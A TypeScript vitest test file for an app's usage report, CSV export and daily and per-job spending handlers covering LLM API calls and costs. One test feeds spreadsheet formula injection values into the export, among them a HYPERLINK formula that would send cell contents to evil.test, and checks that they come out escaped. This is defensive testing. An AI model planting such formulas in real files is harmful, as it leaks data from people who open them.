import { describe, expect, it } from 'vitest';
import type { Handlers } from '../../../src/main/app/handlers.ts';
import type { UsageCall } from '../../../src/main/app/ports/money-store.ts';
import type { Store } from '../../../src/main/app/ports/store.ts';
import { createUsageHandlers } from '../../../src/main/app/usage/usage-handlers.ts';
import { operations, type InputOf, type OutputOf } from '../../../src/shared/operations.ts';
import { createManualClock } from '../../support/manual-clock.ts';
import { jobRecord, newStore } from '../sqlite/support.ts';
import { noLimit } from './support.ts';

const call = (change: Partial<UsageCall> = {}): UsageCall => ({
  reservationId: null,
  jobId: 'a',
  provider: 'openai',
  accountId: 'default',
  model: 'gpt-5',
  role: 'backend',
  promptTokens: 100,
  cachedTokens: 40,
  completionTokens: 10,
  reasoningTokens: 4,
  estimated: false,
  costMicros: 1000,
  outcome: 'success',
  errorKind: null,
  firstTokenMs: 100,
  durationMs: 1000,
  day: '2026-11-22',
  atMs: Date.UTC(2026, 10, 22, 12),
  ...change,
});

type UsageOperation = 'usage.report' | 'usage.csv' | 'usage.today' | 'jobs.spending';

function setUp(calls: readonly UsageCall[] = []) {
  const store = newStore();
  store.transaction(({ jobs, usage }) => {
    jobs.insert(jobRecord('a', { goal: 'Mend the answer\n\nand more', maxCostMicros: 5_000_000 }));
    calls.forEach((one) => usage.insert(one));
  });
  const handlers = createUsageHandlers({
    store,
    journal: {} as never,
    look: async () => undefined,
    clock: createManualClock(new Date(2026, 10, 22, 15).getTime()),
    settings: () => ({ day_max_cost_usd: 10, day_max_tokens: null }),
    accountLimit: () => noLimit,
    accountRows: () => [{ provider: 'anthropic', accountId: 'work' }],
  });
  const ask = async <N extends UsageOperation>(name: N, input: InputOf<N>): Promise<OutputOf<N>> => {
    const handler = handlers[name] as Handlers[N];
    const parsed = operations[name].input.parse(input) as Parameters<Handlers[N]>[0];
    const result = await handler(parsed, new AbortController().signal);
    if (!result.ok) throw new Error(result.error.message);
    return operations[name].output.parse(result.value) as OutputOf<N>;
  };
  return { store, ask };
}

describe('a usage report', () => {
  const calls = [
    call({ firstTokenMs: 10, durationMs: 100 }),
    call({ firstTokenMs: 30, durationMs: 900, model: 'gpt-5-mini', costMicros: 9000, role: null }),
    call({ firstTokenMs: 20, durationMs: 200, day: '2026-11-21', jobId: null }),
    call({ outcome: 'error', errorKind: 'network', firstTokenMs: 9999, durationMs: 9999, costMicros: null }),
    call({ provider: 'ollama', model: 'llama3.1:8b', accountId: 'here', costMicros: 0, promptTokens: 900 }),
  ];

  it('sums by day, newest first, with the medians of what went well', async () => {
    const { ask } = setUp(calls);
    const report = await ask('usage.report', {});
    expect([report.from, report.to, report.by]).toEqual(['2026-10-24', '2026-11-22', 'day']);
    expect(report.rows).toEqual([
      {
        key: '2026-11-22',
        label: '2026-11-22',
        calls: 4,
        error_calls: 1,
        prompt_tokens: 1200,
        cached_tokens: 160,
        completion_tokens: 40,
        reasoning_tokens: 16,
        cost_usd: 0.01,
        unpriced_calls: 1,
        // Of 10, 30 and 100; of 100, 900 and 1000.
        first_token_ms: 30,
        duration_ms: 900,
      },
      expect.objectContaining({ key: '2026-11-21', calls: 1, cost_usd: 0.001, first_token_ms: 20 }),
    ]);
    expect(report.total).toMatchObject({ calls: 5, error_calls: 1, cost_usd: 0.011, unpriced_calls: 1 });
  });

  it('groups by model, job, account and role, the dearest first', async () => {
    const { ask } = setUp(calls);
    const keys = async (by: 'model' | 'job' | 'account' | 'role') =>
      (await ask('usage.report', { by })).rows.map(({ key }) => key);
    expect(await keys('model')).toEqual(['openai/gpt-5-mini', 'openai/gpt-5', 'ollama/llama3.1:8b']);
    expect(await keys('account')).toEqual(['openai:default', 'ollama:here']);
    expect(await keys('role')).toEqual(['-', 'backend']);
    const jobs = (await ask('usage.report', { by: 'job' })).rows;
    expect(jobs.map(({ key, label }) => [key, label])).toEqual([
      ['a', 'Mend the answer'],
      ['-', '-'],
    ]);
  });

  it('has a median between two, none without a success, and nothing of other days or jobs', async () => {
    const two = [call({ firstTokenMs: 10 }), call({ firstTokenMs: 15 })];
    expect((await setUp(two).ask('usage.report', {})).rows[0]?.first_token_ms).toBe(12.5);
    const failed = setUp([call({ outcome: 'error', firstTokenMs: null })]);
    expect((await failed.ask('usage.report', {})).rows[0]).toMatchObject({
      first_token_ms: null,
      duration_ms: null,
    });
    const { ask } = setUp(calls);
    expect((await ask('usage.report', { from: '2026-11-21', to: '2026-11-21' })).total.calls).toBe(1);
    expect((await ask('usage.report', { job_id: 'a' })).total.calls).toBe(4);
    expect(await ask('usage.report', { from: '2027-01-01', to: '2027-01-02' })).toMatchObject({
      rows: [],
      total: { calls: 0, cost_usd: 0, prompt_tokens: 0 },
    });
  });

  it('keeps its history through a reset of the counters', async () => {
    const { store, ask } = setUp(calls);
    store.transaction(({ usage }) => usage.reset(1));
    expect(store.tables.usage.snapshot({ nowMs: 1, windowMinutes: 1 }).models).toEqual([]);
    expect((await ask('usage.report', {})).total.calls).toBe(5);
  });

  it('is made of 20,000 calls as well', async () => {
    const many = Array.from({ length: 20_000 }, (_, index) =>
      call({
        model: `m${index % 50}`,
        firstTokenMs: index,
        day: `2026-11-${String((index % 20) + 1).padStart(2, '0')}`,
      }),
    );
    const { ask } = setUp(many);
    const report = await ask('usage.report', { by: 'model' });
    expect(report.rows).toHaveLength(50);
    expect(report.total.calls).toBe(20_000);
  });
});

describe('the export', () => {
  const lines = (csv: string): string[] => csv.split('\r\n').filter((line) => line !== '');

  it('has every call of the span, with numbers that add up', async () => {
    const { ask } = setUp([
      call(),
      call({ costMicros: null, jobId: null, estimated: true }),
      call({ day: '2026-01-01' }),
    ]);
    const { csv, rows, file_name } = await ask('usage.csv', { from: '2026-11-01', to: '2026-11-30' });
    expect([rows, file_name]).toEqual([2, 'dev-crew-usage-2026-11-01-2026-11-30.csv']);
    expect(lines(csv)).toEqual([
      'at,day,provider,account,model,job_id,role,prompt_tokens,cached_tokens,completion_tokens,reasoning_tokens,estimated,cost_usd,first_token_ms,duration_ms,outcome,error',
      '2026-11-22T12:00:00.000Z,2026-11-22,openai,default,gpt-5,a,backend,100,40,10,4,no,0.001,100,1000,success,',
      '2026-11-22T12:00:00.000Z,2026-11-22,openai,default,gpt-5,,backend,100,40,10,4,yes,,100,1000,success,',
    ]);
  });

  it('holds no formula of a model’s or an account’s making', async () => {
    const evil = '=HYPERLINK("http://evil.test/?"&A1,"free")';
    const { ask } = setUp([call({ model: evil, accountId: '@SUM(1)', errorKind: '+1\r\n2' })]);
    const { csv } = await ask('usage.csv', {});
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""free"")"`);
    expect(csv).toContain(",'@SUM(1),");
    expect(csv).toContain(`"'+1\r\n2"`);
  });

  it('is whole over many pages', async () => {
    const { ask } = setUp(Array.from({ length: 2500 }, (_, index) => call({ durationMs: index })));
    const { csv, rows } = await ask('usage.csv', {});
    expect(rows).toBe(2500);
    expect(new Set(lines(csv).map((line) => line.split(',')[14])).size).toBe(2501);
  });
});

describe('what today and a job have cost', () => {
  it('is told with what is set aside and the limits, for the day and every account', async () => {
    const { store, ask } = setUp();
    const row = (id: string, state: 'reserved' | 'settled', micros: number | null) => ({
      reservationId: id,
      state,
      amount: { tokens: 100, micros },
      promptTokens: 50,
      jobId: 'a',
      provider: 'openai' as const,
      accountId: 'default',
      model: 'gpt-5',
      role: null,
      day: '2026-11-22',
      owner: 'here:1:x',
      atMs: 1,
    });
    store.transaction(({ ledger }: Store['tables']) => {
      ledger.insert(row('1', 'settled', 2000));
      ledger.insert(row('2', 'reserved', 500_000));
      ledger.insert({ ...row('3', 'settled', null), jobId: null });
      ledger.insert({ ...row('4', 'settled', 7), day: '2026-11-21' });
    });
    const spent = {
      spent_usd: 0.002,
      reserved_usd: 0.5,
      spent_tokens: 200,
      reserved_tokens: 100,
      unpriced_calls: 1,
    };
    expect(await ask('usage.today', {})).toEqual({
      day: '2026-11-22',
      spending: { ...spent, max_cost_usd: 10, max_tokens: null },
      accounts: [
        expect.objectContaining({ provider: 'anthropic', account_id: 'work' }) as object,
        {
          provider: 'openai',
          account_id: 'default',
          spending: { ...spent, max_cost_usd: null, max_tokens: null },
        },
      ],
    });
    expect(await ask('jobs.spending', { job_id: 'a' })).toMatchObject({
      spent_usd: 0.002007,
      reserved_usd: 0.5,
      max_cost_usd: 5,
      unpriced_calls: 0,
    });
    await expect(ask('jobs.spending', { job_id: 'b' })).rejects.toThrow('job not found: b');
  });
});
